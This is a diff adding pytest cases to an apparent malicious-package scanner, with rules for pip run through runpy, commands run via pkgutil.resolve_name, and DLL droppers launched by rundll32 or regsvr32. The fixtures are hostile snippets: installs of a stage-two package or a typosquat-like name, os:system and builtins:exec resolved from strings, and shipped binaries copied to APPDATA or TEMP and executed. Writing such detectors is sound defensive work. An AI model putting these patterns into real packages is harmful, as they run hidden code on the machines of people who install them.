@@ -1270,3 +1270,122 @@ def test_a_name_kept_in_a_class_of_the_file_is_computed(filename: str) -> None:
     # a class's setting naming something harmless is no hidden name
     harmless = 'import os\nclass C:\n    sep = "se" + "p"\nvalue = getattr(os, C.sep)\n'
     assert "CPL-THR-003" not in danger(harmless, filename)
+
+
+# -- issue 16, the last misses: pip run through runpy, APIs named for pkgutil -------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import runpy, sys
+        sys.argv = ["pip", "install", "--quiet", "colorama-helperz"]
+        runpy.run_module("pip", run_name="__main__")
+        """,
+        """
+        import runpy, sys
+        sys.argv[1:] = ["install", "https://files.example/stage2-1.0.tar.gz"]
+        runpy.run_module("pip._internal.cli.main", run_name="__main__")
+        """,
+        """
+        import os, runpy, sys
+        import pip
+        sys.argv.extend(["install", "stage2"])
+        runpy.run_path(os.path.join(os.path.dirname(pip.__file__), "__main__.py"))
+        """,
+    ],
+)
+def test_pip_run_through_runpy_with_an_install_in_argv_is_a_threat(source: str) -> None:
+    assert "CPL-THR-019" in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # pip asked its version, and a package's own CLI run with an install subcommand
+        'import runpy, sys\nsys.argv = ["pip", "--version"]\nrunpy.run_module("pip")\n',
+        'import runpy, sys\nsys.argv = ["tool", "install"]\nrunpy.run_module("mytool.cli")\n',
+    ],
+)
+def test_runpy_of_pip_without_an_install_or_of_another_module_is_not(source: str) -> None:
+    assert "CPL-THR-019" not in danger(source, "setup.py")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import pkgutil\nrun = pkgutil.resolve_name("os:system")\nrun("id")\n',
+        'import pkgutil\npkgutil.resolve_name("subprocess.Popen")(["whoami"])\n',
+        'from pkgutil import resolve_name as rn\nrn("builtins:exec")(code)\n',
+    ],
+)
+def test_an_api_named_in_a_string_for_pkgutil_resolve_name_is_a_threat(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # entry points and settings resolved by the name they are configured with
+        'import pkgutil\nLoader = pkgutil.resolve_name("mypkg.loaders:Loader")\n',
+        "import pkgutil\ndef load(spec):\n    return pkgutil.resolve_name(spec)\n",
+    ],
+)
+def test_pkgutil_resolve_name_of_a_plain_object_or_a_setting_is_not(source: str) -> None:
+    assert "CPL-THR-003" not in danger(source)
+
+
+# -- issue 16, the last misses: a DLL the package ships or copies, run by rundll32/regsvr32 --
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import os, subprocess
+        here = os.path.dirname(__file__)
+        subprocess.Popen(["rundll32.exe", os.path.join(here, "data", "cache.dat") + ",DllMain"])
+        """,
+        """
+        import os, shutil
+        here = os.path.dirname(os.path.abspath(__file__))
+        dst = os.path.join(os.environ["APPDATA"], "update.dat")
+        shutil.copyfile(os.path.join(here, "theme.bin"), dst)
+        os.system('rundll32 "%s",Start' % dst)
+        """,
+        """
+        import os, subprocess
+        src = os.path.join(os.path.dirname(__file__), "fonts.bin")
+        dst = os.path.join(os.getenv("TEMP"), "msfont.ocx")
+        with open(src, "rb") as f, open(dst, "wb") as g:
+            g.write(f.read())
+        subprocess.call("regsvr32 /s " + dst, shell=True)
+        """,
+        """
+        import os, shutil, subprocess
+        _HERE = os.path.dirname(os.path.abspath(__file__))
+        def _cache():
+            target = os.path.join(os.environ["LOCALAPPDATA"], "fntcache.dat")
+            shutil.copyfile(os.path.join(_HERE, "data", "glyphs.dat"), target)
+            subprocess.Popen(["rundll32.exe", target + ",GlyphInit"])
+        """,
+    ],
+)
+def test_a_dll_the_package_ships_or_copies_out_run_by_a_windows_loader_is_a_dropper(
+    source: str,
+) -> None:
+    assert "CPL-THR-018" in danger(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # Windows' own DLLs, and a COM server registered from the system's folder
+        'import subprocess\nsubprocess.run(["rundll32", "user32.dll,LockWorkStation"])\n',
+        'import os\nos.system("rundll32.exe shell32.dll,Control_RunDLL desk.cpl")\n',
+        'import os, subprocess\nsubprocess.call(["regsvr32", "/s", os.path.join(sd, "x.dll")])\n',
+    ],
+)
+def test_windows_loaders_of_the_systems_own_dlls_are_not_droppers(source: str) -> None:
+    assert "CPL-THR-018" not in danger(source)
